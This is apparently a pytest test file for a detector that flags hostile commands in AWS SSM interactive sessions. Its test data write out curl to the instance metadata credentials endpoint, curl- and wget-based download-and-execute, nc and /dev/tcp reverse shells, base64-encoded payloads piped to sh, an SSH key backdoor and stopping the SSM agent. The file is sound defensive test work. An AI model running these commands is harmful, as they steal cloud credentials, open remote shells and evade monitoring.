"""AWS.SSM.InteractiveSessionCommand: the command a session runs, read by the content inspector."""

from __future__ import annotations

from typing import Any

import pytest

from detections.interactive_session_command import InteractiveSessionCommandDetection
from ssm_detect.findings import Finding, Severity
from tests.builders import Runner, load_record

DETECTION = "AWS.SSM.InteractiveSessionCommand"
TEMPLATE = "session_interactive_command_benign.json"


def fire(record: dict[str, Any]) -> list[Finding]:
    return Runner(None, [InteractiveSessionCommandDetection()]).process(record)


def session(parameters: object, document: str = "AWS-StartInteractiveCommand") -> dict[str, Any]:
    record = load_record(TEMPLATE)
    record["requestParameters"]["documentName"] = document
    record["requestParameters"]["parameters"] = parameters
    return record


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        (
            "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            "imds_credentials",
        ),
        ("curl -fsSL https://203.0.113.9/i.sh | sudo bash", "download_execute"),
        ("nc -e /bin/sh 203.0.113.9 4444", "reverse_shell"),
        ("echo ZWNobyBoaQ== | base64 -d | sh", "encoded_payload"),
        ("powershell -enc " + "A" * 60, "encoded_payload"),
    ],
)
def test_interactive_command_severe_hit_is_high(command: str, rule: str) -> None:
    (finding,) = fire(session({"command": [command]}))

    assert finding.detection_id == DETECTION
    assert finding.severity is Severity.HIGH
    assert rule in {hit["rule"] for hit in finding.context["content_findings"]}
    assert finding.context["session_parameters"]["command"] == [command]


def test_interactive_command_severe_plus_other_evidence_is_critical() -> None:
    command = "curl -s https://203.0.113.9/k | sh; echo 'ssh-rsa AAA' >> ~/.ssh/authorized_keys"

    (finding,) = fire(session({"command": [command]}))

    assert finding.severity is Severity.CRITICAL


def test_interactive_command_lesser_hit_is_medium() -> None:
    (finding,) = fire(session({"command": ["sudo systemctl stop amazon-ssm-agent"]}))

    assert finding.severity is Severity.MEDIUM


@pytest.mark.parametrize(
    "parameters",
    [
        {"command": ["sudo systemctl status nginx"]},
        {"command": ["top -b -n 1"]},
        {"portNumber": ["22"]},
        None,
    ],
)
def test_interactive_command_without_hit_fires_nothing(parameters: object) -> None:
    assert fire(session(parameters)) == []


def test_interactive_command_customer_document_commands_parameter_any_case() -> None:
    record = session(
        {"Commands": ["cd /tmp", "wget http://203.0.113.9/a -O a; chmod +x a"]}, "Team-X"
    )

    (finding,) = fire(record)

    assert finding.severity is Severity.HIGH
    assert finding.context["document_name"] == "Team-X"


def test_interactive_command_given_as_string_is_still_inspected() -> None:
    (finding,) = fire(session({"command": "bash -i >& /dev/tcp/203.0.113.9/443 0>&1"}))

    assert finding.severity is Severity.HIGH


def test_interactive_command_failed_session_fires_nothing() -> None:
    record = session({"command": ["curl http://169.254.169.254/latest/meta-data/"]})
    record["errorCode"] = "AccessDenied"

    assert fire(record) == []
